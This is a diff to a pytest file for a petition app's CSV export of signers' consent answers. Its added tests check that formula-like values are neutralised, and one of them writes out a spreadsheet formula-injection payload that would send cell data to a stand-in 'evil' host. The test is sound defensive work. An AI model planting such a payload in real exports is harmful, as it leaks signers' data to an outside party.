@@ -6,13 +6,15 @@ import stat
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
+from sqlalchemy import insert
 
 from desktop.core.errors import DeliveryError, OutputError
 from desktop.core.progress import Progress
 from desktop.petition.export import export_people
 from desktop.petition.review.decisions import decide
 from desktop.petition.review.selection import Conditions
-from tests.support.crowd import UPDATES, Person, id_of, put, wipe
+from desktop.petition.tables.arrived import consent
+from tests.support.crowd import UPDATES, Person, id_of, put, switch, wipe
 
 MAIL = "ann@example.org"
 LATE = "2026-08-24T12:00:00Z"
@@ -47,14 +49,18 @@ def test_everybody_who_is_counted_is_there_once_and_nobody_else(new_petition, tm
 def test_the_strongest_consent_comes_with_its_own_proof_and_not_asked_is_never_yes(new_petition, tmp_path):
     petition = new_petition()
     yes = Person("Ann", "Lee", MAIL, signed_at=LATE, updates="yes", language="fr")
-    put(petition, 1, [Person("Ann", "Lee", MAIL, updates="no"), yes, Person("Bo"), Person("Cem", updates="no")])
+    put(
+        petition,
+        1,
+        [Person("Ann", "Lee", MAIL, updates="not_given"), yes, Person("Bo"), Person("Cem", updates="not_given")],
+    )
     ann, bo, cem = exported(petition, tmp_path)
     of = f"consent_{UPDATES}"
     assert (ann[of], ann[f"{of}_at"], ann[f"{of}_language"]) == ("yes", LATE, "fr")
     assert ann[f"{of}_signature_id"] == id_of(1001).hex() != ann["signature_id"] == id_of(1000).hex()
     assert ann[f"{of}_text_sha256"] == (bytes([1001 % 256]) * 32).hex()
     assert (bo[of], bo[f"{of}_at"], bo[f"{of}_signature_id"]) == ("not_asked", "", "")
-    assert (cem[of], cem[f"{of}_signature_id"]) == ("no", cem["signature_id"])
+    assert (cem[of], cem[f"{of}_signature_id"]) == ("not_given", cem["signature_id"])
 
 
 CELLS = st.text(st.sampled_from("=+-@＝Aé王 ',\";|\\%s\x7f"), min_size=1, max_size=6)
@@ -75,6 +81,57 @@ def test_every_cell_reads_back_as_it_was_and_none_begins_a_formula(kept_export, 
 @pytest.fixture
 def kept_export(new_petition, tmp_path):
     return new_petition(), tmp_path
+
+
+def ask(petition, number: int, *requests: str, answer: str = "yes") -> None:
+    """Let a signature answer requests, as a device of the first format may call them."""
+    given = {"signature": number, "requester": "=1+1", "text_sha256": b"", "language": "en", "answer": answer}
+    with petition.transaction() as connection:
+        rows = [given | {"request": each, "at": LATE, "method": "self-ticked"} for each in requests]
+        connection.execute(insert(consent), rows)
+
+
+def test_any_number_of_requests_is_exported_on_every_engine(new_petition, tmp_path):
+    petition = new_petition()
+    put(
+        petition,
+        1,
+        [Person("Ann"), Person("Bo"), Person("Cem", "Roe", MAIL), Person("Cem", "Roe", MAIL, signed_at=LATE)],
+    )
+    many = [f"ask-{number:03}" for number in range(200)]
+    ask(petition, 1000, *many)
+    ask(petition, 1001, *many[50:60], answer="not_given")
+    ask(petition, 1003, *many[199:])
+    ann, bo, cem = exported(petition, tmp_path)
+    assert {ann[f"consent_{each}"] for each in many} == {"yes"}
+    assert [each for each in many if bo[f"consent_{each}"] == "not_given"] == many[50:60]
+    assert bo["consent_ask-000"] == "not_asked"
+    assert ann["consent_ask-007_requester"] == "'=1+1"
+    assert (cem["consent_ask-199"], cem["consent_ask-199_signature_id"]) == ("yes", id_of(1003).hex())
+    assert cem["consent_ask-198"] == "not_asked"
+
+
+def test_a_hostile_name_of_a_request_is_one_heading_and_no_formula(new_petition, tmp_path):
+    petition = new_petition()
+    put(petition, 1, [Person("Ann"), Person("Bo")])
+    hostile = 'x,=HYPERLINK("http://evil/?"&A2,"click")'
+    ask(petition, 1000, hostile)
+    exported(petition, tmp_path)
+    with (tmp_path / "people.csv").open(encoding="utf-8", newline="") as file:
+        heading, *lines = list(csv.reader(file))
+    assert {len(line) for line in lines} == {len(heading)}
+    assert [each for each in heading if each.startswith(("=", "+", "-", "@"))] == []
+    assert f"consent_{hostile}" in heading
+
+
+def test_what_was_asked_in_an_undone_merge_alone_has_no_column(new_petition, tmp_path):
+    petition = new_petition()
+    put(petition, 1, [Person("Ann")])
+    put(petition, 2, [Person("Bo")])
+    ask(petition, 2000, "gone")
+    assert "consent_gone" in exported(petition, tmp_path)[0]
+    switch(petition, 2, undone=True)
+    assert "consent_gone" not in exported(petition, tmp_path)[0]
 
 
 def test_a_phone_number_stays_one_and_a_formula_that_looks_like_one_does_not_run(new_petition, tmp_path):
